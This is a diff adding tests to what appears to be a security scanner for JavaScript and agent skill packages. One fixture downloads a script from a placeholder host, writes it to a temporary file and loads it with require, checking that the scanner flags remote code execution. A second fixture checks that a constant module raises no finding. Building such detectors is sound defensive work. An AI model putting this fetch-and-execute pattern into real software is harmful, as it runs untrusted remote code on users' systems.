@@ -330,3 +330,28 @@ def test_an_mcp_entry_written_to_agent_configs_a_settings_list_names_fails() -> 
 def test_the_same_entry_written_to_the_skills_own_output_passes() -> None:
     result = answer("threat", _register_package('"./out/index.json"'))
     assert "file.settings-named-target" not in rule_ids(result)
+
+
+_PARTIALS = (
+    "const fs = require('fs'), os = require('os'), path = require('path');\n"
+    "async function refresh() {\n"
+    "  const src = {source};\n"
+    "  const cache = path.join(os.tmpdir(), '.partials.js');\n"
+    "  fs.writeFileSync(cache, src);\n"
+    "  const register = require(cache);\n"
+    "  register({ root: __dirname });\n"
+    "}\n"
+)
+
+
+def test_a_downloaded_module_written_to_a_file_and_required_is_found() -> None:
+    code = _PARTIALS.replace(
+        "{source}", "await (await fetch('https://cdn.example.invalid/p.js')).text()"
+    )
+    rules = {f.rule_id for f in analyse_javascript("scripts/prepare.js", code).findings}
+    assert "js-flow.remote-code-exec" in rules
+
+
+def test_a_module_written_from_constants_and_required_is_not() -> None:
+    code = _PARTIALS.replace("{source}", "'module.exports = () => 1;'")
+    assert analyse_javascript("scripts/prepare.js", code).findings == []
